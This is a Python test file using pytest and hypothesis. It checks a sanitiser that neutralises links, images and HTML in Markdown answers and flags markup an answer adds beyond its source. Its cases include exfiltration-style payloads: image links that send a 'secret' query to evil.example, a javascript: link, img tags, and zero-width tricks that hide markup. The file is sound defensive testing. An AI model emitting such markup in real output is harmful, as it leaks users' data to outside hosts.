"""What leaves as Markdown links, loads and runs nothing."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from services.answer.markup import added_markup, is_plain, neutralised

ACTIVE = {"link_open", "image", "html_inline", "html_block"}
MARKS = [*"[]()!<>\\`&;:/a \n\"'|*_\t", "\n\n", "- ", "> ", "---", "    ", "```\n", "~~~", "//"]
WHOLE = [
    "https://x.y/z",
    "![](x)",
    "[a]: /b\n",
    "[a]",
    "<img src=x>",
    "<https://x.y>",
    "</b>",
    "<?php",
    "<1@b.cd>",
]
PARTS = ["<!--", "-->", "<![CDATA[", "lt", "#91", "@b.cd", "1"]
NASTY = st.lists(st.sampled_from([*MARKS, *WHOLE, *PARTS]), max_size=14).map("".join)


def tokens(text: str) -> set[str]:
    """The kinds of things that a reader of CommonMark with tables sees in a text."""
    parsed = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text)
    return {token.type for block in parsed for token in [block, *(block.children or ())]}


@given(NASTY)
def test_neutralised_markdown_has_no_link_no_image_and_no_html(text):
    assert not tokens(neutralised(text)) & ACTIVE


@given(NASTY)
def test_neutralising_twice_changes_nothing_more(text):
    assert neutralised(neutralised(text)) == neutralised(text)
    assert is_plain(neutralised(text))


@given(NASTY)
def test_what_is_plain_stays_as_it_is(text):
    assert (neutralised(text) == text) == is_plain(text)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert)",
        "[x][y]\n\n[y]: https://evil.example",
        "> - [y]:\n> https://evil.example",
        "<img src=https://evil.example>",
        "\\\\<img src=https://evil.example>",
        "<https://evil.example/secret>",
        "<!-- <script> -->",
        "[![a](b)](c)",
    ],
)
def test_markup_that_reaches_out_is_shown_as_text(text):
    assert not tokens(neutralised(text)) & ACTIVE


def test_ordinary_markdown_survives():
    text = (
        '## Fees\n\n1. "Display" – 5 <6 & 7 > 6\n2. [Reserved] *must* `x`\n\n| a | b |\n|--|--|\n| 1 | 2 |\n'
    )
    assert neutralised(text) == text


@pytest.mark.parametrize(
    ("text", "original", "added"),
    [
        ("See [here](/a).", "See [here](/a) please.", ()),
        ("See [there](/a).", "See [here](/a) please.", ()),
        ("See ![](https://evil.example/?q=1).", "See [here](/a).", ("](https://evil.example/?q=1",)),
        ("<b>must</b>", "<b>shall</b>", ()),
        ("<img src=x>", "<b>shall</b>", ("<img src=x",)),
        ("[a]: https://evil.example", "a", ("]: https://evil.example",)),
    ],
)
def test_markup_is_added_when_the_original_does_not_have_it(text, original, added):
    assert added_markup(text, original) == added


def test_what_nobody_sees_hides_no_markup():
    hidden = "![x]\u200b(/x) <\u2060b>"
    assert not is_plain(hidden)
    assert is_plain(neutralised(hidden))
    assert added_markup(hidden, "") == ("](/x", "<b")
